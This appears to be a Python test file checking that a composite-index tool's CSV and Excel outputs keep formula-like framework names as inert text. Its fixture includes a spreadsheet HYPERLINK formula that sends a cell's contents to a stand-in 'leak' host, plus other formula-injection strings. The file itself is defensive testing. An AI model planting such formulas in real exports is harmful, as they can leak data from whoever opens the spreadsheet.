"""The index's CSV and .xlsx outputs: framework names stay text (composite/report.py)."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

from openpyxl import load_workbook
from typer.testing import CliRunner

from factorlink.cli.main import app
from factorlink.composite.report import TABLES, csv_bytes, write_all, xlsx_bytes
from factorlink.composite.service import computed
from factorlink.kit.formulas import looks_like_formula, restore

runner = CliRunner()
HYPERLINK = '=HYPERLINK("http://example.invalid/?leak="&A2,"点击查看")'

FRAMEWORK = f"""\
code: hostile
name: "+指数"
dimensions:
  - code: talent
    name: 人才
    indicators:
      - {{code: deals, name: '{HYPERLINK}', unit: 项}}
      - {{code: patents, name: "@SUM(A1:A9)", unit: 件}}
"""


def test_names_that_look_like_formulas_stay_text_in_every_output(tmp_path: Path) -> None:
    (tmp_path / "framework.yaml").write_text(FRAMEWORK, encoding="utf-8")
    (tmp_path / "data.csv").write_text(
        "城市,年份,deals,patents\n松江,2023,5,4\n嘉兴,2023,3,2\n杭州,2023,1,7\n", encoding="utf-8"
    )
    (tmp_path / "p.yaml").write_text(
        "framework: framework.yaml\ndata: data.csv\nunits: corridor\n"
        "steps:\n  - normalise: {}\n  - aggregate: {}\n",
        encoding="utf-8",
    )
    out = tmp_path / "out"
    result = runner.invoke(
        app, ["index", "compute", "--pipeline", str(tmp_path / "p.yaml"), "--out", str(out)]
    )
    assert result.exit_code == 0, result.output

    texts: set[str] = set()
    for path in out.glob("*.csv"):
        with path.open(encoding="utf-8-sig", newline="") as handle:
            for row in csv.reader(handle):
                assert not any(looks_like_formula(cell) for cell in row), (path.name, row)
                texts.update(restore(cell) for cell in row)
    assert {HYPERLINK, "@SUM(A1:A9)"} <= texts

    with zipfile.ZipFile(out / "index.xlsx") as book:
        xml = b"".join(book.read(n) for n in book.namelist() if n.startswith("xl/worksheets/"))
    assert b"<f>" not in xml and b"<f " not in xml
    cells = {
        c.value
        for sheet in load_workbook(out / "index.xlsx").worksheets
        for row in sheet.iter_rows()
        for c in row
    }
    assert {HYPERLINK, "@SUM(A1:A9)"} <= cells


def test_downloads_hold_what_write_all_writes(tmp_path: Path) -> None:
    loaded, result = computed()
    written = write_all(result, tmp_path / "out", sample=loaded.sample)
    names = {p.name for p in written.files}
    for table in TABLES:
        assert f"{table}.csv" in names
        assert csv_bytes(result, table) == (tmp_path / "out" / f"{table}.csv").read_bytes()
    book = load_workbook(io.BytesIO(xlsx_bytes(result)), read_only=True)
    on_disk = load_workbook(tmp_path / "out" / "index.xlsx", read_only=True)
    assert book.sheetnames == on_disk.sheetnames
    for name in book.sheetnames:
        assert list(book[name].values) == list(on_disk[name].values)
